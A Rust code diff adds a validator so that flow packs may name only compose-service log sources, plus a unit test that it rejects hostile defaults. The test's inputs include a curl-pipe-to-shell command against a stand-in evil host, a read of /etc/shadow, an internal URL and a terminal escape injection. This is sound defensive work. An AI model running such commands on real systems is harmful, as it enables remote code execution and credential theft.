@@ -39,6 +39,26 @@ pub enum SourceSpec {
     File { path: PathBuf, speed: f64 },
 }
 
+impl SourceSpec {
+    /// A source a flow names as its default. Only a compose service's logs:
+    /// `cmd:` would run a command on the presenter's machine, `file:` read
+    /// any file and `prom:` reach a URL nobody granted, so a pack from a
+    /// stranger may not choose those; the presenter can, with `--workload`.
+    pub fn from_flow(text: &str) -> anyhow::Result<Self> {
+        let shown = crate::runtime::api::flow_line(text.to_string(), 200);
+        match text.parse::<SourceSpec>() {
+            Ok(spec @ SourceSpec::Service(_)) => Ok(spec),
+            Ok(_) => anyhow::bail!(
+                "the flow asks for the default workload '{shown}', but a flow may only name service:NAME (a command, file or URL would reach outside its sandbox); pass --workload yourself if you want that source"
+            ),
+            Err(e) => anyhow::bail!(
+                "the flow's default workload '{shown}' is invalid ({}); pass --workload",
+                crate::runtime::api::flow_line(format!("{e:#}"), 400)
+            ),
+        }
+    }
+}
+
 impl std::str::FromStr for SourceSpec {
     type Err = anyhow::Error;
 
@@ -382,5 +402,24 @@ mod tests {
         let err = "tcp:x".parse::<SourceSpec>().unwrap_err().to_string();
         assert!(err.contains("prom:URL#QUERY or file:PATH[@SPEED]"), "{err}");
         assert!("cmd:".parse::<SourceSpec>().is_err());
+    }
+
+    #[test]
+    fn a_flow_may_default_only_to_a_service_of_the_project() {
+        assert_eq!(
+            SourceSpec::from_flow("service:go-ycsb").unwrap(),
+            SourceSpec::Service("go-ycsb".into())
+        );
+        for hostile in [
+            "cmd:curl http://evil.example | sh",
+            "file:/etc/shadow",
+            "prom:http://10.0.0.1:9090#up",
+            "cmd:\u{1b}]2;x\u{7}",
+        ] {
+            let err = SourceSpec::from_flow(hostile).unwrap_err().to_string();
+            assert!(err.contains("a flow may only name service:NAME"), "{err}");
+            assert!(!err.contains('\u{1b}'), "{err:?}");
+            assert_eq!(err.lines().count(), 1, "{err}");
+        }
     }
 }
